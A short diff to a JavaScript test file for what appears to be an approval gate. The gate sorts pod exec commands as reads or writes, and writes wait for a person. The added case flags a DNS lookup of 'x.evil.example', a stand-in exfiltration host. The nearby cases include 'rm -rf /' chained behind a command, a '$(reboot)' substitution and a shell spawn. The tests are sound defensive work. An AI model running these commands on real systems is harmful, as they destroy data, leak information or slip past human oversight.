@@ -45,6 +45,7 @@ describe('a call waits for a person', () => {
     ],
     ['but not for a command that only looks', exec, { pod_name: 'p', command: 'ls -la /tmp' }, 'read'],
     ['but not for words that only look', exec, { pod_name: 'p', argv: ['ps', 'aux'] }, 'read'],
+    ['for a resolver, which carries a name out', exec, { pod_name: 'p', command: 'nslookup x.evil.example' }, 'write'],
     ['for a shell', exec, { pod_name: 'p', command: 'sh -c ls' }, 'write'],
     ['for a command behind a command', exec, { pod_name: 'p', command: 'ls; rm -rf /' }, 'write'],
     ['for a substitution', exec, { pod_name: 'p', command: 'ls $(reboot)' }, 'write'],
